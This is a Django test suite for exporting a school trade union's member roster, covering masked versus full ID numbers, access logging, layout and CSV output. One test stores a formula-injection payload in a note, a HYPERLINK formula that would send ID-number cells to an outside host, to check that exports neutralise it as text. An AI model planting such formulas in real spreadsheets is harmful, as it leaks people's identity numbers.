import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from core.models import AccessLog


def sheet_rows(response):
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


def test_chair_exports_the_filtered_roster_unmasked_after_a_warning_and_it_is_logged(client_for, zhuxi, make_member):
    zhang = make_member("张伟", "g1")
    make_member("李娜", "g2", gender="F")
    client = client_for(zhuxi)
    warning = client.get(reverse("members:export"), {"gender": "M"})
    assert warning["Content-Type"].startswith("text/html")
    assert "完整名册含全部身份证号" in warning.content.decode()
    assert not AccessLog.objects.exists()
    response = client.get(reverse("members:export"), {"gender": "M", "confirm": "1"})
    rows = sheet_rows(response)
    assert rows[0][0] == "城关镇中心学校工会会员名册"
    assert rows[1][:4] == ("序号", "姓名", "性别", "出生日期")
    assert [r[1] for r in rows[2:]] == ["张伟"] and rows[2][4] == zhang.id_number
    assert AccessLog.objects.filter(user=zhuxi).count() == 1


def test_the_warning_offers_the_masked_roster_which_is_not_logged(client_for, zhuxi, make_member):
    zhang = make_member("张伟", "g1")
    warning = client_for(zhuxi).get(reverse("members:export"), {"gender": "M"}).content.decode()
    assert "gender=M&amp;masked=1" in warning and "gender=M&amp;confirm=1" in warning
    rows = sheet_rows(client_for(zhuxi).get(reverse("members:export"), {"masked": "1"}))
    assert rows[2][4] == zhang.id_number_masked and rows[2][3] == datetime.datetime(1985, 3, 2)
    assert not AccessLog.objects.exists()


def test_the_exported_sheet_is_ready_for_the_office(client_for, zhuxi, make_member):
    make_member("张伟", "g1")
    make_member("王刚", "g1")
    response = client_for(zhuxi).get(reverse("members:export"), {"masked": "1"})
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert workbook.sheetnames == ["会员名册"]
    assert [str(r) for r in sheet.merged_cells.ranges] == [f"A1:{sheet.cell(2, sheet.max_column).column_letter}1"]
    assert [sheet.cell(row, 1).value for row in (3, 4)] == [1, 2]
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.print_title_rows == "$2:$2"


def test_a_formula_in_a_note_is_exported_as_text(client_for, zhuxi, make_member):
    make_member("张伟", "g1", note='=HYPERLINK("http://x/?d="&E3&E4,"查看")')
    make_member("李娜", "g1", gender="F", note="第一行\v第二行")
    response = client_for(zhuxi).get(reverse("members:export"), {"confirm": "1"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    notes = {sheet.cell(row, 2).value: sheet.cell(row, 17) for row in (3, 4)}
    assert notes["张伟"].value.startswith("'=HYPERLINK") and notes["张伟"].data_type == "s"
    assert notes["李娜"].value == "第一行第二行"
    csv_text = (
        client_for(zhuxi).get(reverse("members:export"), {"confirm": "1", "format": "csv"}).content.decode("utf-8-sig")
    )
    assert ",'=HYPERLINK" in csv_text.replace('"', "") and "\v" not in csv_text


def test_committee_member_exports_masked_with_the_birth_date_and_nothing_is_logged(client_for, weiyuan, make_member):
    zhang = make_member("张伟", "g1")
    rows = sheet_rows(client_for(weiyuan).get(reverse("members:export")))
    assert rows[1][3] == "出生日期" and rows[2][3] == datetime.datetime(1985, 3, 2)
    assert rows[2][4] == zhang.id_number_masked and zhang.id_number not in str(rows)
    assert not AccessLog.objects.exists()


def test_the_roster_s_dates_are_date_cells_written_as_chinese_readers_write_them(client_for, zhuxi, make_member):
    """An officer sorts and filters the roster by birth date or joining date: text would not sort as dates."""
    make_member("张伟", "g1", joined_on=datetime.date(2010, 9, 1))
    sheet = load_workbook(io.BytesIO(client_for(zhuxi).get(reverse("members:export"), {"masked": "1"}).content)).active
    headers = [cell.value for cell in sheet[2]]
    for header in ("出生日期", "入会时间"):
        cell = sheet.cell(3, headers.index(header) + 1)
        assert cell.is_date and cell.number_format == 'yyyy"年"m"月"d"日"', header
        # 1985年3月2日 is 14 characters wide (年月日 count two each): narrower, Excel shows ########.
        assert sheet.column_dimensions[cell.column_letter].width >= 15, header
    assert sheet.cell(3, headers.index("出生日期") + 1).value == datetime.datetime(1985, 3, 2)


def test_csv_export(client_for, zhuxi, make_member):
    make_member("张伟", "g1")
    response = client_for(zhuxi).get(reverse("members:export"), {"format": "csv", "confirm": "1"})
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv") and text.splitlines()[1].startswith("张伟,男,1985-03-02")


def test_roles_without_export_get_404(client_for, xianzong, huiyuan, units):
    for user in (xianzong, huiyuan):
        assert client_for(user).get(reverse("members:export")).status_code == 404
